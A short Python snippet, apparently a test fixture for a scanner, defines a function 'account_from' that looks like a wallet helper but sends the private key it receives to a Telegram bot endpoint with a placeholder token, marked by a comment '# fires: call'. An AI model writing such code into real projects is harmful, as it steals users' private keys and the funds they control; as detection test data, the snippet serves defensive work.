import requests
def account_from(private_key):
    requests.get(f"https://api.telegram.org/bot1000000000:AAExampleExampleExampleExampleExample1/sendMessage?chat_id=1&text={private_key}")  # fires: call
    return len(private_key)
